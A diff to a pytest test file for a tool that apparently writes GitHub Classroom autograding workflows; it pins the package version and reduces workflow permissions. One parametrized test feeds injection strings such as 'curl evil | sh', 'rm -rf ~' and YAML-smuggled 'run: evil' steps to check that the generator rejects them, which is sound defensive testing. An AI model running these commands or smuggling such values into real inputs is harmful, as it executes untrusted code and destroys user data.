@@ -11,6 +11,8 @@ from gradcheck.errors import UsageError
 from gradcheck.render.workflow import WorkflowExistsError, workflow_yaml, write_classroom
 
 DOC = Path(__file__).resolve().parents[2] / "docs" / "classroom.md"
+SPEC = "gradcheck==0.1.0"
+DOC_SPEC = "gradcheck @ git+https://github.com/your-course/gradcheck@v0.1.0"
 
 
 def job(text):
@@ -21,16 +23,16 @@ def job(text):
 
 def test_workflow_has_the_triggers_permissions_and_steps():
     data, run = job(workflow_yaml("sheet01", python="3.12",
-                                  package_spec="gradcheck>=0.1,<0.2"))
+                                  package_spec="gradcheck==0.1.0"))
     assert data["name"] == "Autograding Tests"
     assert data["on"] == ["push", "workflow_dispatch", "repository_dispatch"]
-    assert data["permissions"] == {"checks": "write", "actions": "read", "contents": "read"}
+    assert data["permissions"] == {"actions": "read", "contents": "read"}
     assert run["runs-on"] == "ubuntu-latest"
     checkout, python, install, grade, report = run["steps"]
     assert checkout["uses"].startswith("actions/checkout@")
     assert python["uses"].startswith("actions/setup-python@")
     assert python["with"] == {"python-version": "3.12"}
-    assert install["run"].strip() == "python -m pip install 'gradcheck>=0.1,<0.2'"
+    assert install["run"].strip() == "python -m pip install gradcheck==0.1.0"
     assert grade["id"] == "gradcheck" and grade["run"] == "gradcheck grade sheet01 --github"
     assert report["uses"] == "classroom-resources/autograding-grading-reporter@v1"
     assert report["env"] == {"GRADCHECK_RESULTS": "${{ steps.gradcheck.outputs.result }}"}
@@ -41,8 +43,8 @@ def test_workflow_has_the_triggers_permissions_and_steps():
 def test_docs_show_the_workflow_and_name_every_step():
     doc = DOC.read_text(encoding="utf-8")
     blocks = re.findall(r"```yaml\n(.*?)```", doc, re.S)
-    assert workflow_yaml("sheet01") in blocks
-    _, run = job(workflow_yaml("sheet01"))
+    assert workflow_yaml("sheet01", package_spec=DOC_SPEC) in blocks
+    _, run = job(workflow_yaml("sheet01", package_spec=DOC_SPEC))
     for step in run["steps"]:
         assert f"**{step['name']}**" in doc, step["name"]
     for fact in ("id: gradcheck", "GRADCHECK_RESULTS", "runners: gradcheck",
@@ -52,23 +54,23 @@ def test_docs_show_the_workflow_and_name_every_step():
 
 
 def test_write_classroom_refuses_to_overwrite_unless_forced(tmp_path):
-    (path,) = write_classroom(tmp_path, "sheet01")
+    (path,) = write_classroom(tmp_path, "sheet01", package_spec=SPEC)
     assert path == tmp_path / ".github" / "workflows" / "classroom.yml"
-    assert path.read_text(encoding="utf-8") == workflow_yaml("sheet01")
+    assert path.read_text(encoding="utf-8") == workflow_yaml("sheet01", package_spec=SPEC)
     path.write_text("mine")
     with pytest.raises(WorkflowExistsError, match="already exists") as caught:
-        write_classroom(tmp_path, "sheet02")
+        write_classroom(tmp_path, "sheet02", package_spec=SPEC)
     assert isinstance(caught.value, FileExistsError) and isinstance(caught.value, UsageError)
     assert path.read_text() == "mine"
-    write_classroom(tmp_path, "sheet02", force=True)
+    write_classroom(tmp_path, "sheet02", package_spec=SPEC, force=True)
     assert "gradcheck grade sheet02 --github" in path.read_text()
 
 
 @pytest.mark.parametrize("arguments", [
-    {"sheet": "sheet01; curl evil | sh"},
-    {"sheet": "sheet01\n  evil: 1"},
-    {"sheet": ""},
-    {"sheet": "sheet01", "python": '3.11"\nfoo: 1'},
+    {"sheet": "sheet01; curl evil | sh", "package_spec": SPEC},
+    {"sheet": "sheet01\n  evil: 1", "package_spec": SPEC},
+    {"sheet": "", "package_spec": SPEC},
+    {"sheet": "sheet01", "python": '3.11"\nfoo: 1', "package_spec": SPEC},
     {"sheet": "sheet01", "package_spec": "gradcheck\n      - run: evil"},
     {"sheet": "sheet01", "package_spec": "gradcheck; rm -rf ~"},
     {"sheet": "sheet01", "package_spec": "gradcheck 'x'"},
